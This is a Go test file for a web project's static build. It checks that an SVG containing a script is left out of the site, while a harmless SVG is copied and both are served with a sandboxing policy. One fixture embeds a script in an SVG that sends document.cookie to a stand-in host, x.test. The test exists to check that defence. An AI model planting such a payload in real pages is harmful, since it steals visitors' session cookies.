package web_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/lotse-bot/lotse/web"
)

// TestBuildSkipsActiveSVG: the static build copies a harmless SVG but not
// one with a script – its web host would run the script on the site's
// origin when someone opens bilder/…svg – and removes the copy an earlier
// build left. The server still serves both, with a sandboxing policy.
func TestBuildSkipsActiveSVG(t *testing.T) {
	lib := t.TempDir()
	write := func(dir, p, data string) {
		t.Helper()
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(lib, "konto/bilder/schild.svg", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4"/></svg>`)
	write(lib, "konto/bilder/falle.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://x.test/?"+document.cookie)</script></svg>`)
	write(lib, "konto/bilder.md", "---\ntitle: Bilder\ntags: [bilder]\nsummary: Zwei Bilder.\naudience: members\n---\n\n# Bilder\n\n"+
		"![Schild](bilder/schild.svg)\n\n![Falle](bilder/falle.svg)\n")
	out := t.TempDir()
	write(out, "bilder/konto/bilder/falle.svg", "from an earlier build")

	res, err := web.Build(t.Context(), loadLibrary(t, lib), out, web.Options{Dir: lib, Log: zerolog.Nop()})
	if err != nil {
		t.Fatal(err)
	}
	if res.Images != 1 || !slices.Equal(res.Skipped, []string{"konto/bilder/falle.svg"}) {
		t.Errorf("Images %d, Skipped %v; want 1 and [konto/bilder/falle.svg]", res.Images, res.Skipped)
	}
	if _, err := os.Stat(filepath.Join(out, "bilder", "konto", "bilder", "schild.svg")); err != nil {
		t.Errorf("the harmless SVG was not copied: %v", err)
	}
	if _, err := os.Stat(filepath.Join(out, "bilder", "konto", "bilder", "falle.svg")); !os.IsNotExist(err) {
		t.Errorf("the SVG with a script is in the static site (err %v)", err)
	}

	h, _ := newHandler(t, lib, web.Options{})
	for _, p := range []string{"/bilder/konto/bilder/schild.svg", "/bilder/konto/bilder/falle.svg"} {
		res := get(t, h, p)
		if res.status != 200 || res.header.Get("Content-Security-Policy") == web.ContentSecurityPolicy ||
			!containsSandbox(res.header.Get("Content-Security-Policy")) {
			t.Errorf("GET %s: %d, policy %q", p, res.status, res.header.Get("Content-Security-Policy"))
		}
	}
}

func containsSandbox(policy string) bool {
	for d := range strings.SplitSeq(policy, ";") {
		if strings.TrimSpace(d) == "sandbox" {
			return true
		}
	}
	return false
}
